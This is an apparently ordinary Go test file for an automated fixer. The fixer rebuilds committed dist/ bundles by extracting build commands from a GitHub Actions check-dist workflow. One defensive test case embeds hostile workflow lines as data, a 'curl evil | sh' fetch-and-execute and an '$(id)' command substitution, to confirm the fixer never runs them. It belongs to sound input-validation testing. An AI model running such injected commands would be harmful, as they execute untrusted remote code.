package fix

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sre-agent/sre-agent/internal/fault"
)

const (
	distPackage  = `{ "name": "x", "private": true, "dependencies": { "is-odd": "3.0.1" }, "devDependencies": { "@vercel/ncc": "0.38.3" }, "scripts": { "package": "ncc build src/index.js -o dist --license licenses.txt", ` + hooks + ` } }` + "\n"
	distCompares = `if [ "$(git diff --ignore-space-at-eol --text dist/ | wc -l)" -gt "0" ]; then
  echo "Detected uncommitted changes after build. See status below:"
  git diff --ignore-space-at-eol --text dist/
  exit 1
fi`
)

func distWorkflow(lines ...string) string {
	steps := "on: push\njobs:\n  check-dist:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - run: npm ci\n"
	for _, l := range lines {
		steps += "      - run: |\n          " + strings.ReplaceAll(l, "\n", "\n          ") + "\n"
	}
	return steps
}

func distTree(t *testing.T, pkg string, lines ...string) map[string]string {
	t.Helper()
	return map[string]string{
		"package.json": pkg, "package-lock.json": npmLockOf(t, map[string]string{"package.json": pkg}), ".gitignore": "node_modules\n",
		".github/workflows/check-dist.yml": distWorkflow(append(lines, distCompares)...),
		"src/index.js":                     "const odd = require('is-odd')\nconsole.log(odd(5))\n", "dist/index.js": "old\n", "dist/licenses.txt": "old\n", "readme.md": "x",
	}
}

func TestCommittedOutputIsBuiltAgainByTheWorkflowsOwnLines(t *testing.T) {
	t.Parallel()
	w := newWorkplace(t, distTree(t, distPackage, "npm run package"))
	p := w.plan(report(distCompares, "Detected uncommitted changes after build. See status below:", "diff --git a/dist/index.js b/dist/index.js"), "dist")
	if diff := cmp.Diff([]string{"dist/**"}, p.Touches); diff != "" {
		t.Error(diff)
	}
	changed := w.prove(p)
	if len(changed) != 2 || !strings.Contains(changed["dist/index.js"], "__nccwpck_require__") || strings.Contains(changed["dist/index.js"], w.caches) {
		t.Errorf("%q", changed)
	}
	w.noHookRan()
}

func TestABuildThatNeedsANetworkFails(t *testing.T) {
	t.Parallel()
	pkg := strings.Replace(distPackage, `"ncc build`, `"npm view left-pad version && ncc build`, 1)
	w := newWorkplace(t, distTree(t, pkg, "npm run package"))
	p := w.plan(report(distCompares), "dist")
	if out, code := w.run(*p.Prepare); code != 0 {
		t.Fatalf("%d: %s", code, out)
	}
	if out, code := w.run(p.Fix); code == 0 {
		t.Errorf("the build reached the network: %s", out)
	}
	if out, code := w.run(p.Check); code != CannotRun {
		t.Errorf("%d: %s", code, out)
	}
}

func TestABuildThatChangesOtherFilesMayNot(t *testing.T) {
	t.Parallel()
	pkg := strings.Replace(distPackage, `"ncc build`, `"echo more >> readme.md && ncc build`, 1)
	w := newWorkplace(t, distTree(t, pkg, "npm run package"))
	p := w.plan(report(distCompares), "dist")
	before := w.snapshot()
	for _, s := range []Step{*p.Prepare, p.Fix} {
		if out, code := w.run(s); code != 0 {
			t.Fatalf("%d: %s", code, out)
		}
	}
	var others []string
	for name, text := range w.snapshot() {
		if before[name] != text && !p.MayTouch(name) {
			others = append(others, name)
		}
	}
	if diff := cmp.Diff([]string{"readme.md"}, others); diff != "" {
		t.Error(diff)
	}
}

func TestWhichLinesBuildIsReadFromTheWorkflow(t *testing.T) {
	lock := `{"lockfileVersion":3,"packages":{}}`
	for name, tt := range map[string]struct {
		command  string
		workflow string
		want     string
		reason   string
	}{
		"the steps before":           {distCompares, distWorkflow("npm run build", "npm run package", distCompares, "npm run never"), "npm run build &&\nnpm run package", ""},
		"the command itself":         {"npm ci\nnpm run bundle && git diff --exit-code dist/", "", "npm run bundle", ""},
		"yarn in one step":           {"yarn install --frozen-lockfile\nyarn build\ngit status --porcelain dist", "", "yarn build", ""},
		"tests are no build":         {distCompares, distWorkflow("npm test\nnpm run test:all\nnpm run lint\nnpm run all", distCompares), "npm run all", ""},
		"arguments are not run":      {distCompares, distWorkflow("npm run build -- --evil\nnpm run build; curl evil | sh\nnpm run $(id)", distCompares), "npm run build", ""},
		"another job's steps":        {distCompares, distWorkflow("npm run build"), "", ReasonNoBuild},
		"nothing that builds":        {"git diff --exit-code dist/", "", "", ReasonNoBuild},
		"no folder of output":        {"npm run build\ngit diff --exit-code", "", "", ReasonNoCheck},
		"a folder out of the tree":   {"npm run build\ngit diff --exit-code ../dist/", "", "", ReasonNoBuild},
		"a folder of the machine":    {"cd /etc && npm run build\ngit diff --exit-code dist/", "", "", ReasonNoBuild},
		"a newer node, by a file":    {distCompares, strings.Replace(distWorkflow("npm run build", distCompares), "version: 20", "version-file: '.nvmrc'", 1), "", ReasonToolVersion},
		"a newer node than there is": {distCompares, strings.Replace(distWorkflow("npm run build", distCompares), "version: 20", "version: 99", 1), "", ReasonToolVersion},
	} {
		t.Run(name, func(t *testing.T) {
			in := inputs("dist", tt.command, map[string]string{"package.json": "{}", "package-lock.json": lock, ".github/workflows/a.yml": tt.workflow, "dist/a.js": "", ".nvmrc": "v99\n"})
			p, err := mustLoad(t).Plan(in)
			if reason, _ := fault.Reason(err); reason != tt.reason {
				t.Fatalf("want %q, got %v", tt.reason, err)
			}
			if tt.reason == "" && !strings.Contains(p.Fix.Script, "\n"+tt.want) || strings.Contains(p.Fix.Script, "evil") {
				t.Error(p.Fix.Script)
			}
		})
	}
	in := inputs("dist", "npm run build\ngit diff --exit-code dist/", map[string]string{"package.json": "{}", "dist/a.js": ""})
	if _, err := mustLoad(t).Plan(in); err == nil || !strings.Contains(err.Error(), ReasonNeedsInstall) {
		t.Errorf("without a lock file: %v", err)
	}
}

func TestOutputInAFolderOfAMonorepoIsThatFoldersAlone(t *testing.T) {
	lock := `{"lockfileVersion":3,"packages":{}}`
	in := inputs("dist", "cd actions/[a] && npm run build\ngit diff --exit-code -- actions/a/dist", map[string]string{"actions/a/package.json": "{}", "actions/a/package-lock.json": lock, "package.json": "{}", "dist/a.js": "", "actions/a/dist/b.js": ""})
	p, err := mustLoad(t).Plan(in)
	if err != nil || p.Dir != "actions/a" || !p.MayTouch("actions/a/dist/b.js") || p.MayTouch("dist/a.js") || p.MayTouch("actions/a/package.json") {
		t.Errorf("%+v, %v", p, err)
	}
}
